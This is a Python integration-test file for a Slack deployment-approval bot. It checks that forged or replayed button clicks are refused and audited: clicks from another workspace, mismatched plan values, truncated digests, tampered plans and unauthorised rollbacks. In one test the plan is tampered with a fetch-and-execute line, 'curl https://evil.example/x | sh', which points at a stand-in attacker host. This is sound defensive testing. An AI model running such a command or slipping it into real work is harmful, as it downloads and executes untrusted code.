"""A click acts only on the plan of the card it was pressed on, from the plan's workspace.

Each attack is a correctly signed request to the running app, as Slack would post it
(so only the payload's fields differ): a click from another workspace, card A carrying
plan B's value, an empty or partial digest, a click replayed after the plan changed,
Rollback pressed by a non-approver, from another workspace or outside the plan's
thread. Each is refused with an ephemeral message, audited, and nothing is dispatched.
"""

from __future__ import annotations

import asyncio
import copy
import json
from typing import Any

import pytest

from handlers import actions
from handlers import blocks as kit
from roles.records import PlanStatus
from tests import slack_requests as sr
from tests.harness import App, eventually
from tests.integration.conftest import ALICE, BOB, CHANNEL, DAVE, STAGING_URL, Fakes
from tests.integration.test_end_to_end import _buttons, _text, cards, click, response_to

OTHER_TEAM = "T0EVILCORP"
DIRECTIVE = "deploy auth to staging"


@pytest.fixture()
def planner_url() -> None:
    """SOPHIE with the offline planner (deterministic cards) and the fake GitHub."""
    return None


async def plan_card(app: App, fakes: Fakes, text: str = DIRECTIVE) -> tuple[Any, str, str]:
    """(a snapshot of the card, its plan id, its Approve value) for a new directive."""
    event = sr.mention_event(text, DAVE, CHANNEL)
    await app.event(event)
    (card,) = await eventually(lambda: cards(fakes.slack, event["event"]["ts"]), what="card")
    value = _buttons(card.blocks)[kit.APPROVE]["value"]
    plan_id = value.split("|")[0]

    async def recorded() -> bool:
        # A person clicks after reading the card; by then SOPHIE has recorded it (a click
        # in the few milliseconds before is told "still being posted").
        record = await app.rt.store.load(plan_id)
        return record is not None and record.card_ts == card.ts

    await eventually(recorded, what="the card recorded")
    return copy.deepcopy(card), plan_id, value


async def answer(app: App, fakes: Fakes, payload: dict[str, Any], rid: str) -> str:
    """Post the click; the ephemeral answer Slack's response_url received."""
    resp = await app.interact(payload)
    assert resp.status == 200
    reply = await eventually(lambda: response_to(fakes.slack, rid), what=f"the answer {rid}")
    assert reply["response_type"] == "ephemeral" and reply.get("replace_original") is False
    return str(reply["text"])


async def refusals(app: App, plan_id: str) -> list[dict[str, Any]]:
    entries = [json.loads(f[b"body"]) for _, f in await app.rt.store.r.xrange("sophie:audit")]
    return [
        e["detail"] for e in entries if e["kind"] == "decision.refused" and e["plan"] == plan_id
    ]


async def still_pending(app: App, plan_id: str) -> None:
    record = await app.rt.store.load(plan_id)
    assert record is not None and record.status == PlanStatus.PENDING and record.decisions == []


async def nothing_dispatched(fakes: Fakes) -> None:
    await asyncio.sleep(0.4)  # give a wrongly accepted click time to reach GitHub
    assert fakes.github.dispatches == []


async def test_a_click_from_another_workspace_is_refused(app: App, fakes: Fakes) -> None:
    card, plan_id, value = await plan_card(app, fakes)
    url = f"{fakes.slack_server.url}/respond/"
    forged = [
        # Another workspace entirely (team.id), and a Slack Connect guest whose own
        # workspace differs (user.team_id) while the channel is ours.
        sr.block_action(kit.APPROVE, value, ALICE, CHANNEL, card.ts, url + "t", team=OTHER_TEAM),
        sr.block_action(
            kit.APPROVE, value, ALICE, CHANNEL, card.ts, url + "g", user_team=OTHER_TEAM
        ),
        sr.block_action(kit.VETO, value, BOB, CHANNEL, card.ts, url + "v", team=OTHER_TEAM),
        sr.block_action(kit.VIEW_PLAN, value, BOB, CHANNEL, card.ts, url + "p", team=OTHER_TEAM),
    ]
    for payload, rid in zip(forged, "tgvp", strict=True):
        assert "another Slack workspace" in await answer(app, fakes, payload, rid)
    await still_pending(app, plan_id)
    audited = await refusals(app, plan_id)
    assert [d["decision"] for d in audited] == ["approve", "approve", "veto", "view"]
    assert {d["team"] for d in audited} == {OTHER_TEAM}
    assert fakes.slack.views == []  # neither the veto modal nor the plan YAML opened
    await nothing_dispatched(fakes)

    # The same approver from the plan's workspace is accepted: only the workspace differed.
    assert "Approved and signed" in await answer(
        app, fakes, click(fakes, kit.APPROVE, value, ALICE, card.ts, "ok"), "ok"
    )
    await eventually(lambda: fakes.github.dispatches, what="the dispatch")
    assert fakes.slack.rejections == []


async def test_card_a_carrying_plan_b_value_is_refused(app: App, fakes: Fakes) -> None:
    card_a, plan_a, _ = await plan_card(app, fakes)
    card_b, plan_b, value_b = await plan_card(app, fakes, "deploy the frontend to staging")
    url = f"{fakes.slack_server.url}/respond/"
    crossed = {
        "x1": click(fakes, kit.APPROVE, value_b, ALICE, card_a.ts, "x1"),
        "x2": click(fakes, kit.VETO, value_b, BOB, card_a.ts, "x2"),
        "x3": click(fakes, kit.VIEW_PLAN, value_b, BOB, card_a.ts, "x3"),
        # B's own card ts, but in another channel.
        "x4": sr.block_action(kit.APPROVE, value_b, ALICE, "C0ELSEWHERE", card_b.ts, url + "x4"),
    }
    for rid, payload in crossed.items():
        assert "does not belong to the plan on this card" in await answer(app, fakes, payload, rid)
    # The payload disagreeing with itself (container vs message) is no card at all.
    torn = click(fakes, kit.APPROVE, value_b, ALICE, card_b.ts, "x5")
    torn["message"]["ts"] = card_a.ts
    assert "not on a message I posted" in await answer(app, fakes, torn, "x5")

    await still_pending(app, plan_a)
    await still_pending(app, plan_b)
    audited = await refusals(app, plan_b)
    assert len(audited) == 4 and all("does not belong" in d["reason"] for d in audited)
    assert {d["message_ts"] for d in audited} == {card_a.ts, card_b.ts}
    assert fakes.slack.views == []
    await nothing_dispatched(fakes)
    assert fakes.slack.rejections == []


async def test_empty_partial_and_malformed_values_are_refused(app: App, fakes: Fakes) -> None:
    card, plan_id, value = await plan_card(app, fakes)
    digest = value.split("|")[1]
    assert len(digest) == 64
    bad = {
        "empty": (f"{plan_id}|", "out of date"),
        "prefix": (f"{plan_id}|{digest[:16]}", "out of date"),
        "longer": (f"{plan_id}|{digest}00", "out of date"),
        "upper": (f"{plan_id}|{digest.upper()}", "out of date"),
        "bare": (plan_id, "names no plan"),
        "noid": (f"|{digest}", "names no plan"),
        "junk": ("plan-1|abc", "names no plan"),
    }
    for rid, (wrong, says) in bad.items():
        assert says in await answer(
            app, fakes, click(fakes, kit.APPROVE, wrong, ALICE, card.ts, rid), rid
        )

    # No message at all (no container, channel or message): not a card.
    lost = click(fakes, kit.APPROVE, value, ALICE, card.ts, "lost")
    for key in ("container", "channel", "message"):
        del lost[key]
    assert "not on a message I posted" in await answer(app, fakes, lost, "lost")

    await still_pending(app, plan_id)
    # Each wrong digest for a known plan is audited; values naming no plan only logged.
    reasons = [d["reason"] for d in await refusals(app, plan_id)]
    assert len(reasons) == 4 and all("out of date" in r for r in reasons)
    await nothing_dispatched(fakes)
    assert fakes.slack.rejections == []


async def test_a_click_replayed_after_the_plan_changed_is_refused(app: App, fakes: Fakes) -> None:
    card, plan_id, value = await plan_card(app, fakes)
    # Someone with Redis access rewrites the plan behind the card.
    key = f"sophie:plan:{plan_id}"
    redis: Any = app.rt.store.r  # redis-py types its commands as "Awaitable[T] | T"
    original = await redis.hget(key, "doc")
    doc = json.loads(original)
    doc["steps"][0]["description"] = "curl https://evil.example/x | sh"
    await redis.hset(key, "doc", json.dumps(doc))
    press = click(fakes, kit.APPROVE, value, ALICE, card.ts, "r1")
    assert "out of date" in await answer(app, fakes, press, "r1")
    await still_pending(app, plan_id)
    assert "out of date" in (await refusals(app, plan_id))[0]["reason"]
    await nothing_dispatched(fakes)

    # Restored, the card works; the same click replayed once decided does nothing more.
    await redis.hset(key, "doc", original)
    assert "Approved and signed" in await answer(
        app, fakes, click(fakes, kit.APPROVE, value, ALICE, card.ts, "r2"), "r2"
    )
    await eventually(lambda: fakes.github.dispatches, what="the dispatch")
    for rid, who in (("r3", ALICE), ("r4", BOB)):
        text = await answer(app, fakes, click(fakes, kit.APPROVE, value, who, card.ts, rid), rid)
        assert "already" in text
    await asyncio.sleep(0.3)
    assert len(fakes.github.dispatches) == 1


async def test_rollback_is_bound_to_the_plan_thread_and_the_constitution(
    app: App, fakes: Fakes
) -> None:
    card, plan_id, value = await plan_card(app, fakes)
    await answer(app, fakes, click(fakes, kit.APPROVE, value, ALICE, card.ts, "a"), "a")

    def result() -> Any:
        thread = fakes.slack.thread(CHANNEL, card.thread_ts)
        return next((m for m in thread if kit.ROLLBACK in _buttons(m.blocks)), None)

    final = await eventually(result, within=20, what="the result with a Rollback button")
    assert STAGING_URL in _text(final.blocks)
    rollback = _buttons(final.blocks)[kit.ROLLBACK]["value"]
    assert rollback == value  # plan id and full digest, like the card's buttons
    url = f"{fakes.slack_server.url}/respond/"

    def press(who: str, rid: str, thread: str | None = final.thread_ts, **kw: Any) -> Any:
        payload = sr.block_action(kit.ROLLBACK, rollback, who, CHANNEL, final.ts, url + rid, **kw)
        return sr.in_thread(payload, thread)

    refused = {
        "nonapprover": (press(DAVE, "nonapprover"), "may not roll back staging"),
        "otherteam": (press(ALICE, "otherteam", team=OTHER_TEAM), "another Slack workspace"),
        "guest": (press(ALICE, "guest", user_team=OTHER_TEAM), "another Slack workspace"),
        "outside": (
            press(ALICE, "outside", thread=None),
            "does not belong to the plan in this thread",
        ),
        "elsewhere": (press(ALICE, "elsewhere", thread="1700000000.999999"), "in this thread"),
        "oldvalue": (
            sr.in_thread(
                sr.block_action(kit.ROLLBACK, plan_id, ALICE, CHANNEL, final.ts, url + "oldvalue"),
                final.thread_ts,
            ),
            "names no plan",
        ),
    }
    for rid, (payload, says) in refused.items():
        assert says in await answer(app, fakes, payload, rid), rid
    audited = [d for d in await refusals(app, plan_id) if d["decision"] == "rollback"]
    assert len(audited) == 5  # all but the value that names no plan
    await asyncio.sleep(0.4)
    assert [d for d in fakes.github.dispatches if d.inputs.get("action") == "rollback"] == []
    assert len(fakes.github.dispatches) == 1  # the deployment itself
    rollbacks = [r for r in await app.rt.store.recent(10) if r.plan.id != plan_id]
    assert rollbacks == []  # no rollback plan was even made

    # An approver of this workspace, in the thread: the rollback starts.
    assert "Preparing the rollback" in await answer(app, fakes, press(ALICE, "ok"), "ok")
    assert fakes.slack.rejections == []


def test_a_payload_without_actions_is_answered_not_raised() -> None:
    """Socket Mode skips the HTTP guard: the handler itself never raises on bad shapes."""
    bodies: list[dict[str, Any]] = [
        {},
        {"actions": []},
        {"actions": ["approve"]},
        {"actions": [{"action_id": kit.APPROVE}]},
        {"actions": [{"action_id": kit.APPROVE, "value": 7}]},
        {"actions": [{"value": "plan_abcdef12|x"}], "container": "nope", "channel": 3},
    ]
    for body in bodies:
        refusal = actions.click_from(body)
        assert isinstance(refusal, str) and "nothing was done" in refusal
    assert actions.actor_from({"user": "U1", "team": 5}).team_id == ""
